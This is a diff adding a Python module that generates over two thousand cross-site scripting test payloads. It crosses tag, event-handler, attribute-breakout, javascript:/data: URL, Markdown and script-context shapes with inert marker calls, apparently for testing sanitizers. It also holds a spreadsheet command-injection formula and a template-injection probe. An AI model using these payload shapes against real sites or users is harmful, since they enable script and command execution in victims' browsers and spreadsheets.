@@ -1,0 +1,165 @@
+"""Script-injection payloads, made from the known classes of them: ways in × what runs.
+
+Each payload calls ``crossed(n)`` when it runs, so that a browser can be asked whether any did.
+"""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+from itertools import product
+
+_CALLS = ("crossed(1)", "window.crossed(1)", "self['crossed'](1)", "top.crossed(1)", "crossed`1`", "alert(1)")
+
+_TAGS = (
+    "<script>{}</script>",
+    "<ScRiPt>{}</sCrIpT>",
+    "<script >{}</script >",
+    "<script/x>{}</script>",
+    "<script\n>{}</script\t>",
+    "<scr<script>ipt>{}</scr</script>ipt>",
+    "<!--><script>{}</script>-->",
+    "<![CDATA[<script>{}</script>]]>",
+    "]]><script>{}</script>",
+    "--><script>{}</script><!--",
+    "</title><script>{}</script>",
+    "</textarea><script>{}</script>",
+    "</style><script>{}</script>",
+    "</script><script>{}</script>",
+    "</template><script>{}</script>",
+    "</noscript><script>{}</script>",
+    "</svg><script>{}</script>",
+    "<svg><script>{}</script></svg>",
+    "<svg><script>//&NewLine;{}</script></svg>",
+    "<math><mtext><script>{}</script></mtext></math>",
+    "<table><td background=javascript:{}>",
+    "<object data='data:text/html,<script>{}</script>'></object>",
+    "<embed src='javascript:{}'>",
+    "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
+    "<iframe src=javascript:{}></iframe>",
+    "<base href='javascript:{}//'>",
+    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
+    "<link rel=stylesheet href='javascript:{}'>",
+    "<form action=javascript:{}><button autofocus>x</button></form>",
+    "<button formaction=javascript:{} autofocus>x</button>",
+    "<isindex action=javascript:{} type=submit>",
+    "<style>@import 'javascript:{}';</style>",
+    "<xml:script>{}</xml:script>",
+    "<noscript><p title='</noscript><script>{}</script>'>",
+    "{{{{ self.__init__.__globals__ }}}}<script>{}</script>",
+    "{{% raw %}}<script>{}</script>",
+)
+_EVENTS = (
+    "<img src=x onerror={}>",
+    "<img src=x onerror='{}'>",
+    '<img src="x" onerror="{}">',
+    "<img/src/onerror={}>",
+    "<IMG SRC=x OnErRoR={}>",
+    "<img src=x\nonerror={}>",
+    "<svg onload={}>",
+    "<svg/onload={}>",
+    "<svg><animate onbegin={} attributeName=x dur=1s>",
+    "<svg><set onbegin={} attributeName=x>",
+    "<body onload={}>",
+    "<body onpageshow={}>",
+    "<details open ontoggle={}>x</details>",
+    "<video><source onerror={}></video>",
+    "<video src=x onerror={}></video>",
+    "<audio src=x onerror={}></audio>",
+    "<input autofocus onfocus={}>",
+    "<select autofocus onfocus={}></select>",
+    "<textarea autofocus onfocus={}></textarea>",
+    "<marquee onstart={}>x</marquee>",
+    "<iframe onload={}></iframe>",
+    "<object onerror={}></object>",
+    "<style onload={}></style>",
+    "<p style=animation-name:x onanimationstart={}>",
+    "<x contenteditable autofocus onfocus={} tabindex=1>x</x>",
+    "<a href=# autofocus onfocus={}>x</a>",
+    "<dialog open onclose={}>",
+    "<div popover id=p onbeforetoggle={}>",
+)
+_ATTRIBUTES = (
+    '" onmouseover="{}',
+    "' onmouseover='{}",
+    '" autofocus onfocus="{}" x="',
+    "' autofocus onfocus='{}' x='",
+    '"><img src=x onerror={}>',
+    "'><img src=x onerror={}>",
+    '"/><svg onload={}>',
+    "`><img src=x onerror={}>",
+    "x onfocus={} autofocus",
+    '" style="animation-name:x" onanimationstart="{}',
+    "&quot; onfocus=&quot;{}",
+    "&#34; autofocus onfocus=&#34;{}",
+    "\\x22 onfocus=\\x22{}",
+    '\\" onfocus=\\"{}',
+)
+_ADDRESSES = (
+    "javascript:{}",
+    "JaVaScRiPt:{}",
+    " javascript:{}",
+    "\tjavascript:{}",
+    "java\tscript:{}",
+    "java\nscript:{}",
+    "javascript&colon;{}",
+    "&#106;avascript:{}",
+    "javascript://%0a{}",
+    "javascript://example.org/%0a{}",
+    "vbscript:{}",
+    "data:text/html,<script>{}</script>",
+    "data:text/html;base64,PHNjcmlwdD5jcm9zc2VkKDEpPC9zY3JpcHQ+{}",
+    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{}'/>",
+    "//evil.example/{}",
+    'https://evil.example/"onfocus={} autofocus x="',
+    "https://evil.example/'><script>{}</script>",
+    "view-source:javascript:{}",
+    "feed:javascript:{}",
+)
+_MARKDOWN = (
+    "[x](javascript:{})",
+    "[x](<javascript:{}>)",
+    "[x](java&#115;cript:{})",
+    "[x](data:text/html,<script>{}</script>)",
+    "![x](javascript:{})",
+    '![x](x "onerror={}")',
+    "[x]: javascript:{}\n\n[x]",
+    "<javascript:{}>",
+    '[x](https://a.example/"onfocus={})',
+    "`<script>{}</script>`",
+    "```html\n<script>{}</script>\n```",
+    "    <script>{}</script>",
+    "> <script>{}</script>",
+    "- <img src=x onerror={}>",
+    "| <script>{}</script> |\n|---|",
+    "# <img src=x onerror={}>",
+    "*<svg onload={}>*",
+    "&lt;script&gt;{}&lt;/script&gt;",
+    "&#60;script&#62;{}&#60;/script&#62;",
+)
+_SCRIPTS = (
+    '"}}]}}</script><script>{}</script>',
+    "</script>{}",
+    "'-{}-'",
+    '"-{}-"',
+    "\\'-{}//",
+    "\u2028{}",
+    "${{{}}}",
+    "*/{}/*",
+    "=cmd|'/c {}'!A1",
+    '=HYPERLINK("javascript:{}")',
+    "@import url(javascript:{})",
+    "expression({})",
+    "</style><img src=x onerror={}>",
+    "+ADw-script+AD4-{}+ADw-/script+AD4-",
+    "<\u0000script>{}</script>",
+    "＜script＞{}＜/script＞",
+    "ʺ><svg onload={}>",
+)
+_WRAPPINGS = ("{}", "“{}”, she said.", "Rain fell on {} on Monday.")
+
+
+def payloads() -> Iterator[str]:
+    """Yield well over two thousand payloads, each once, in a fixed order."""
+    shapes = (*_TAGS, *_EVENTS, *_ATTRIBUTES, *_ADDRESSES, *_MARKDOWN, *_SCRIPTS)
+    for shape, call, wrapping in product(shapes, _CALLS, _WRAPPINGS):
+        yield wrapping.replace("{}", shape.format(call))
